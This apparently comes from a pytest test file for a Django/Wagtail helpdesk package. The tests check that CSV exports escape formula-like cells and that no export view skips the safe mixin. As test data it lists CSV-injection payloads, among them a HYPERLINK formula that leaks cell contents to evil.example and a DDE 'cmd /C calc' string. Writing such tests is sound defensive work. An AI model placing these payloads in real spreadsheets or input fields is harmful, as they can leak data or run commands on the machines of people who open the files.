"""Every CSV the package writes neutralises cells that a spreadsheet would run."""

import csv
import io

import pytest
from django.test import Client
from django.urls import get_resolver
from wagtail.admin.views.mixins import SpreadsheetExportMixin

from tests import factories
from wagtail_tickets.spreadsheets import (
    SafeSpreadsheetExportMixin,
    neutralise_cell,
    neutralise_row,
)

pytestmark = pytest.mark.django_db

DANGEROUS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("value", DANGEROUS)
def test_formula_like_text_gets_an_apostrophe(value):
    assert neutralise_cell(value) == "'" + value


def test_other_values_are_left_alone():
    for value in ("Printer", "", "SUP-000001 = broken", 42, -5, 1.5, None):
        assert neutralise_cell(value) == value
    assert neutralise_row(["=1", 2, "x"]) == ["'=1", 2, "x"]


def test_frequent_requests_csv_neutralises_customer_subjects(helpdesk, department, superuser):
    for _ in range(2):
        ticket = factories.open_ticket(department, subject='=HYPERLINK("http://evil") printer')
        factories.resolve(ticket)
    client = Client()
    client.force_login(superuser)
    response = client.get("/admin/helpdesk/reports/frequent-requests/?export=csv&minimum=1")
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))
    cells = [cell for row in rows for cell in row]
    assert '\'=HYPERLINK("http://evil") printer' in cells
    assert not [cell for cell in cells if cell.startswith(("=", "+", "@", "\t", "\r"))]
    assert "2" in rows[1], "numbers stay numbers"


def _package_views():
    def walk(patterns):
        for pattern in patterns:
            if hasattr(pattern, "url_patterns"):
                yield from walk(pattern.url_patterns)
            else:
                view = getattr(pattern.callback, "view_class", None)
                if view is not None and view.__module__.startswith("wagtail_tickets"):
                    yield view

    return set(walk(get_resolver().url_patterns))


def test_every_export_of_the_package_uses_the_safe_mixin():
    views = _package_views()
    assert views, "the package's admin views are installed"
    exporting = [view for view in views if issubclass(view, SpreadsheetExportMixin)]
    assert exporting, "the frequent requests report at least"
    unsafe = [view for view in exporting if not issubclass(view, SafeSpreadsheetExportMixin)]
    assert not unsafe, unsafe


def test_listings_without_an_export_do_not_dump_every_row(department, agent):
    """Wagtail's listings answer ?export=csv with every row, unpaginated; ours do not."""
    for n in range(3):
        factories.open_ticket(department, subject=f"Ticket {n}")
    client = Client()
    client.force_login(agent)
    response = client.get("/admin/helpdesk_inbox/?export=csv")
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/html")
